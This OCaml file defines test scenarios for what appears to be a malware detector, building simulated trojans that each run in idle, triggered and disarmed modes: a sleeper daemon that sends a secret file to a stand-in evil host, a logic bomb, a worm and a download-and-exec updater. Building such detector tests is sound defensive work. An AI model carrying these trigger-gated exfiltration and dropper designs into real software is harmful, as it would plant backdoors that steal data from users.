open Asm

(* Dormant-trojan scenario family.

   Every program here idles benignly for thousands of ticks and only
   arms when an external trigger arrives: a magic byte sequence on a
   socket, a record planted in the hosts database, a "vulnerable"
   banner from a peer, or a payload image offered by an update mirror.
   Each family is run in three modes — never triggered, triggered, and
   triggered-then-disarmed — and the armed path must execute (and
   produce a warning with a trigger-citing evidence chain) only in the
   triggered mode.

   The scripted-peer [Delay] step supplies the dormancy: the trigger
   bytes are withheld until the simulated clock passes a deadline, so
   the armed block is both cold (frequency 1) and late (time beyond the
   long-time threshold) — exactly the rarely-executed reinforcement of
   Section 4.4, now meeting the compare-guard taint that marks the
   transfer as steered by remote bytes. *)

let group = "dormant"

let magic_arm = "ARM!"
let magic_disarm = "DIS!"

(* Ticks the scripted peers stay silent before delivering anything.
   Must exceed the policy's long-time threshold (2000) so the armed
   path is classified rarely-executed. *)
let trigger_delay = 3000

let trigger_port = 4444
let worm_port = 7777
let exfil_port = 6666
let update_port = 8080

let secret_file = "/data/secret.db"
let secret_data = "dormant-secret-database-payload!"

(* ------------------------------------------------------------------ *)
(* Byte-automaton emitter                                              *)

(* Emits code matching [magic] against the byte in the low part of
   [edx], one byte per pass, with the automaton state in the word at
   label [id ^ "_st"] (caller reserves it).  On a complete match the
   state resets and [on_hit] runs.  On a mismatch the state falls back
   to 1 when the byte re-matches the magic's first character, else 0 —
   for magics whose first byte does not recur this is the exact KMP
   automaton, so matching equals substring containment (the no-partial-
   match property the qcheck suite exercises). *)
let emit_matcher u ~id ~magic ~on_hit =
  let n = String.length magic in
  let st = mlbl (id ^ "_st") in
  let s i = Fmt.str "%s_s%d" id i in
  let miss i = Fmt.str "%s_m%d" id i in
  let fin = id ^ "_done" in
  for i = 0 to n - 2 do
    cmpl u st (imm i);
    jz u (s i)
  done;
  jmp u (s (n - 1));
  for i = 0 to n - 1 do
    label u (s i);
    cmpb u edx (imm (Char.code magic.[i]));
    jnz u (miss i);
    if i < n - 1 then begin
      incl u st;
      jmp u fin
    end
    else begin
      movl u st (imm 0);
      on_hit ();
      jmp u fin
    end;
    label u (miss i);
    if i = 0 then jmp u fin
    else begin
      movl u st (imm 0);
      cmpb u edx (imm (Char.code magic.[0]));
      jnz u fin;
      movl u st (imm 1);
      jmp u fin
    end
  done;
  label u fin

let payload_range (img : Binary.Image.t) =
  match
    Binary.Symbol.find_export img.exports "payload",
    Binary.Symbol.find_export img.exports "payload_end"
  with
  | Some a, Some b -> a, b
  | _ -> invalid_arg "dormant image lacks payload exports"

(* ------------------------------------------------------------------ *)
(* 1. Sleeper daemon                                                   *)

(* Accepts one connection and feeds every received byte through two
   automata: "ARM!" arms, "DIS!" disarms.  The armed flag stores the
   trigger byte itself, so the flag (and the compare that consults it)
   carries the attacker socket's taint.  At EOF an armed daemon
   exfiltrates the hard-coded secret database to a hard-coded
   collector; a disarmed or never-armed one exits silently. *)
let sleeper_exe =
  let u =
    create ~path:"/bin/slpd" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  asciz u "secret" secret_file;
  Runtime.static_sockaddr u "listen_sa" ~ip:Hth.Engine.localhost_ip
    ~port:trigger_port;
  Runtime.static_sockaddr u "exfil_sa" ~ip:(snd Common.evil_host)
    ~port:exfil_port;
  space u "arm_st" 4;
  space u "dis_st" 4;
  space u "armed" 4;
  space u "lfd" 4;
  space u "cfd" 4;
  space u "sfd" 4;
  space u "xfd" 4;
  space u "dlen" 4;
  label u "_start";
  Runtime.sys_socket u;
  movl u (mlbl "lfd") eax;
  Runtime.sys_bind u ~fd:(mlbl "lfd") ~addr:(lbl "listen_sa");
  Runtime.sys_listen u ~fd:(mlbl "lfd");
  Runtime.sys_accept u ~fd:(mlbl "lfd");
  movl u (mlbl "cfd") eax;
  label u "loop";
  Runtime.sys_recv u ~fd:(mlbl "cfd") ~buf:(lbl "__buf") ~len:(imm 1);
  testl u eax eax;
  jz u "eof";
  js u "eof";
  movb u edx (mlbl "__buf");
  emit_matcher u ~id:"arm" ~magic:magic_arm ~on_hit:(fun () ->
      (* store the trigger byte itself: the flag inherits the socket
         taint, so the later armed-check compare sets the guard *)
      movb u (mlbl "armed") edx);
  emit_matcher u ~id:"dis" ~magic:magic_disarm ~on_hit:(fun () ->
      movl u (mlbl "armed") (imm 0));
  jmp u "loop";
  label u "eof";
  Runtime.sys_close u ~fd:(mlbl "cfd");
  Runtime.sys_close u ~fd:(mlbl "lfd");
  cmpl u (mlbl "armed") (imm 0);
  jz u "quit";
  label u "payload";
  export u "payload";
  Runtime.sys_open u ~path:(lbl "secret") ~flags:Osim.Abi.o_rdonly;
  movl u (mlbl "sfd") eax;
  Runtime.sys_read u ~fd:(mlbl "sfd") ~buf:(lbl "__buf") ~len:(imm 64);
  movl u (mlbl "dlen") eax;
  Runtime.sys_close u ~fd:(mlbl "sfd");
  Runtime.sys_socket u;
  movl u (mlbl "xfd") eax;
  Runtime.sys_connect u ~fd:(mlbl "xfd") ~addr:(lbl "exfil_sa");
  Runtime.sys_send u ~fd:(mlbl "xfd") ~buf:(lbl "__buf") ~len:(mlbl "dlen");
  Runtime.sys_close u ~fd:(mlbl "xfd");
  label u "payload_end";
  export u "payload_end";
  label u "quit";
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let sleeper_payload = payload_range sleeper_exe

let sleeper_daemon ~name ~descr ~expected ~script =
  Scenario.make ~name ~group ~descr ~expected
    (Hth.Engine.setup
       ~programs:[ sleeper_exe ]
       ~files:[ secret_file, secret_data ]
       ~hosts:Common.all_hosts
       ~servers:
         [ fst Common.evil_host, exfil_port,
           { Osim.Net.actor_host = fst Common.evil_host; script = [] } ]
       ~incoming:[ trigger_port, { Osim.Net.actor_host = "attacker"; script } ]
       ~main:"/bin/slpd" ())

let sleeper_scenarios =
  let open Osim.Net in
  [ sleeper_daemon ~name:"sleeper daemon idle"
      ~descr:"daemon fed only chatter: the magic sequence never arrives, \
              the armed path stays cold"
      ~expected:Scenario.Benign
      ~script:[ Delay trigger_delay; Send "HELLO-DAEMON"; Close ];
    sleeper_daemon ~name:"sleeper daemon triggered"
      ~descr:"the magic sequence arrives after a long quiet period; the \
              armed daemon exfiltrates the secret database"
      ~expected:(Scenario.Malicious Secpert.Severity.High)
      ~script:[ Delay trigger_delay; Send magic_arm; Close ];
    sleeper_daemon ~name:"sleeper daemon disarmed"
      ~descr:"armed by the magic sequence, then stood down by the disarm \
              sequence before the channel closes"
      ~expected:Scenario.Benign
      ~script:
        [ Delay trigger_delay; Send magic_arm; Delay 400; Send magic_disarm;
          Close ] ]

(* ------------------------------------------------------------------ *)
(* 2. Logic bomb                                                       *)

(* Sleeps in a clock-polling loop until the simulated date passes,
   then consults two pieces of world state: a kill-switch file (the
   defusal) and the hosts database (the trigger).  Only when the
   rendezvous record is present does it drop that record into a
   hard-coded path — the trigger input itself is what leaks, so the
   evidence chain cites the hosts database. *)
let bomb_time = 3000
let bomb_record = "c2.example"
let bomb_host = bomb_record, 0x0A000063
let defuse_file = "/etc/defused"
let bomb_out = "/tmp/.bombed"

let bomb_exe =
  let u =
    create ~path:"/bin/lbomb" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  asciz u "hostsdb" "/etc/hosts.db";
  asciz u "defuse" defuse_file;
  asciz u "bombout" bomb_out;
  space u "fd" 4;
  space u "recp" 4;
  (* "c2.e" little-endian: the first word of the rendezvous record *)
  let needle =
    Char.code bomb_record.[0]
    lor (Char.code bomb_record.[1] lsl 8)
    lor (Char.code bomb_record.[2] lsl 16)
    lor (Char.code bomb_record.[3] lsl 24)
  in
  label u "_start";
  label u "wait";
  Runtime.sys_sleep u 500;
  movl u eax (imm Osim.Abi.sys_time);
  int80 u;
  cmpl u eax (imm bomb_time);
  jl u "wait";
  (* kill switch: a present defusal file stands the bomb down *)
  Runtime.sys_open u ~path:(lbl "defuse") ~flags:Osim.Abi.o_rdonly;
  testl u eax eax;
  js u "scan_hosts";
  movl u (mlbl "fd") eax;
  Runtime.sys_close u ~fd:(mlbl "fd");
  jmp u "quit";
  label u "scan_hosts";
  Runtime.sys_open u ~path:(lbl "hostsdb") ~flags:Osim.Abi.o_rdonly;
  movl u (mlbl "fd") eax;
  Runtime.sys_read u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(imm 256);
  Runtime.sys_close u ~fd:(mlbl "fd");
  xorl u esi esi;
  label u "scan";
  cmpl u (mlbl_base ESI "__buf") (imm needle);
  jz u "payload";
  addl u esi (imm 20);
  cmpl u esi (imm 240);
  jl u "scan";
  jmp u "quit";
  label u "payload";
  export u "payload";
  lea u eax (mlbl_base ESI "__buf");
  movl u (mlbl "recp") eax;
  Runtime.sys_creat u ~path:(lbl "bombout");
  movl u (mlbl "fd") eax;
  Runtime.sys_write u ~fd:(mlbl "fd") ~buf:(mlbl "recp") ~len:(imm 20);
  Runtime.sys_close u ~fd:(mlbl "fd");
  label u "payload_end";
  export u "payload_end";
  label u "quit";
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let bomb_payload = payload_range bomb_exe

let logic_bomb ~name ~descr ~expected ~hosts ~files =
  Scenario.make ~name ~group ~descr ~expected
    (Hth.Engine.setup ~programs:[ bomb_exe ] ~files ~hosts
       ~main:"/bin/lbomb" ())

let bomb_scenarios =
  [ logic_bomb ~name:"logic bomb idle"
      ~descr:"the date passes but the rendezvous record is absent from \
              the hosts database: the bomb never goes off"
      ~expected:Scenario.Benign ~hosts:Common.all_hosts ~files:[];
    logic_bomb ~name:"logic bomb triggered"
      ~descr:"date passed and the rendezvous record is present: the bomb \
              drops the trigger record into a hard-coded path"
      ~expected:(Scenario.Malicious Secpert.Severity.High)
      ~hosts:(Common.all_hosts @ [ bomb_host ])
      ~files:[];
    logic_bomb ~name:"logic bomb defused"
      ~descr:"trigger record present but the kill-switch file stands the \
              bomb down first"
      ~expected:Scenario.Benign
      ~hosts:(Common.all_hosts @ [ bomb_host ])
      ~files:[ defuse_file, "stand down" ] ]

(* ------------------------------------------------------------------ *)
(* 3. Two-process worm                                                 *)

(* The parent forks a propagation child and exits.  The child dials the
   next victim and waits (dormant, blocked in recv) for its banner; a
   "VULN" banner arms replication, a following "STOP" recalls it.  An
   armed child sends its replica seed to the victim — a flow the
   information-flow matrix alone grades Low (binary data, hard-coded
   peer), escalated to High purely by the trigger guard. *)
let victim_host = "victim.example", 0x0A000064
let worm_seed = "worm-replica-image-bytes-v1-32!!"
let worm_banner = "VULN"
let worm_recall = "STOP"

let word_of s =
  Char.code s.[0]
  lor (Char.code s.[1] lsl 8)
  lor (Char.code s.[2] lsl 16)
  lor (Char.code s.[3] lsl 24)

let worm_exe =
  let u =
    create ~path:"/bin/worm" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  bytes_ u "wseed" worm_seed;
  Runtime.static_sockaddr u "victim_sa" ~ip:(snd victim_host)
    ~port:worm_port;
  space u "fd" 4;
  label u "_start";
  Runtime.sys_fork u;
  testl u eax eax;
  jz u "child";
  Runtime.sys_exit u 0;
  label u "child";
  Runtime.sys_socket u;
  movl u (mlbl "fd") eax;
  Runtime.sys_connect u ~fd:(mlbl "fd") ~addr:(lbl "victim_sa");
  Runtime.sys_recv u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(imm 4);
  testl u eax eax;
  jz u "quit";
  js u "quit";
  cmpl u (mlbl "__buf") (imm (word_of worm_banner));
  jnz u "quit";
  (* armed; a recall may still arrive before the channel closes *)
  Runtime.sys_recv u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(imm 4);
  testl u eax eax;
  jz u "payload";
  js u "quit";
  cmpl u (mlbl "__buf") (imm (word_of worm_recall));
  jz u "quit";
  label u "payload";
  export u "payload";
  Runtime.sys_send u ~fd:(mlbl "fd") ~buf:(lbl "wseed")
    ~len:(imm (String.length worm_seed));
  label u "payload_end";
  export u "payload_end";
  label u "quit";
  Runtime.sys_close u ~fd:(mlbl "fd");
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let worm_payload = payload_range worm_exe

let worm_pair ~name ~descr ~expected ~script =
  Scenario.make ~name ~group ~descr ~expected
    (Hth.Engine.setup ~programs:[ worm_exe ]
       ~hosts:(Common.all_hosts @ [ victim_host ])
       ~servers:
         [ fst victim_host, worm_port,
           { Osim.Net.actor_host = fst victim_host; script } ]
       ~main:"/bin/worm" ())

let worm_scenarios =
  let open Osim.Net in
  [ worm_pair ~name:"worm pair idle"
      ~descr:"the victim's banner reports it patched: the child drains \
              the handshake and exits without replicating"
      ~expected:Scenario.Benign
      ~script:[ Delay trigger_delay; Send "SAFE"; Close ];
    worm_pair ~name:"worm pair triggered"
      ~descr:"a vulnerable banner arms replication: the child sends its \
              replica seed to the hard-coded victim"
      ~expected:(Scenario.Malicious Secpert.Severity.High)
      ~script:[ Delay trigger_delay; Send worm_banner; Close ];
    worm_pair ~name:"worm pair recalled"
      ~descr:"armed by the banner, then recalled by a STOP before the \
              channel closes"
      ~expected:Scenario.Benign
      ~script:
        [ Delay trigger_delay; Send worm_banner; Delay 400;
          Send worm_recall; Close ] ]

(* ------------------------------------------------------------------ *)
(* 4. Fake update client                                               *)

(* Asks a user-chosen mirror for an update; the payload arrives over
   the wire as a new image (MZ magic).  A client that receives one
   installs it into a hard-coded path and execs it — content analysis
   and the trigger guard both fire.  A mirror with nothing to offer, or
   one serving a corrupted image, leaves the client silent. *)
let mirror_host = "mirror.example", 0x0A000065
let update_request = "GET update\n"
let update_image = "MZ\x90dormant-update-image-payload!"
let update_drop = "/usr/bin/.helper"

let update_exe =
  let u =
    create ~needed:[ Libc.path ] ~path:"/bin/updcl"
      ~kind:Binary.Image.Executable ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  asciz u "req" update_request;
  asciz u "helper" update_drop;
  space u "argp" 4;
  space u "fd" 4;
  space u "hfd" 4;
  space u "dlen" 4;
  space u "sa" 4;
  label u "_start";
  Runtime.save_argv u 1 "argp";
  pushl u (mlbl "argp");
  call u "gethostbyname";
  addl u esp (imm 4);
  testl u eax eax;
  jz u "quit";
  Runtime.build_sockaddr ~at:32 u ~ip_src:eax ~port:(imm update_port);
  movl u (mlbl "sa") eax;
  Runtime.sys_socket u;
  movl u (mlbl "fd") eax;
  Runtime.sys_connect u ~fd:(mlbl "fd") ~addr:(mlbl "sa");
  Runtime.sys_send u ~fd:(mlbl "fd") ~buf:(lbl "req")
    ~len:(imm (String.length update_request));
  Runtime.sys_recv u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(imm 64);
  movl u (mlbl "dlen") eax;
  testl u eax eax;
  jz u "quit";
  js u "quit";
  cmpb u (mlbl "__buf") (imm (Char.code 'M'));
  jnz u "quit";
  cmpb u (mlbl ~off:1 "__buf") (imm (Char.code 'Z'));
  jnz u "quit";
  label u "payload";
  export u "payload";
  Runtime.sys_creat u ~path:(lbl "helper");
  movl u (mlbl "hfd") eax;
  Runtime.sys_write u ~fd:(mlbl "hfd") ~buf:(lbl "__buf")
    ~len:(mlbl "dlen");
  Runtime.sys_close u ~fd:(mlbl "hfd");
  Runtime.sys_execve u ~path:(lbl "helper") ();
  label u "payload_end";
  export u "payload_end";
  label u "quit";
  Runtime.sys_close u ~fd:(mlbl "fd");
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let update_payload = payload_range update_exe

let update_client ~name ~descr ~expected ~script =
  Scenario.make ~name ~group ~descr ~expected
    (Hth.Engine.setup
       ~programs:[ update_exe; Libc.image () ]
       ~hosts:(Common.all_hosts @ [ mirror_host ])
       ~servers:
         [ fst mirror_host, update_port,
           { Osim.Net.actor_host = fst mirror_host; script } ]
       ~argv:[ "/bin/updcl"; fst mirror_host ]
       ~main:"/bin/updcl" ())

let update_scenarios =
  let open Osim.Net in
  [ update_client ~name:"update client idle"
      ~descr:"the mirror acknowledges the request but has no update: \
              the client exits empty-handed"
      ~expected:Scenario.Benign
      ~script:[ Delay trigger_delay; Expect_str update_request; Close ];
    update_client ~name:"update client triggered"
      ~descr:"the payload arrives over the wire as a new image; the \
              client installs it into a hard-coded path and execs it"
      ~expected:(Scenario.Malicious Secpert.Severity.High)
      ~script:
        [ Delay trigger_delay; Expect_str update_request;
          Send update_image; Close ];
    update_client ~name:"update client rejected"
      ~descr:"the served bytes fail the image magic check: the client \
              discards them without installing"
      ~expected:Scenario.Benign
      ~script:
        [ Delay trigger_delay; Expect_str update_request;
          Send "ZZcorrupted-update-image-bytes!"; Close ] ]

(* ------------------------------------------------------------------ *)

let scenarios =
  sleeper_scenarios @ bomb_scenarios @ worm_scenarios @ update_scenarios
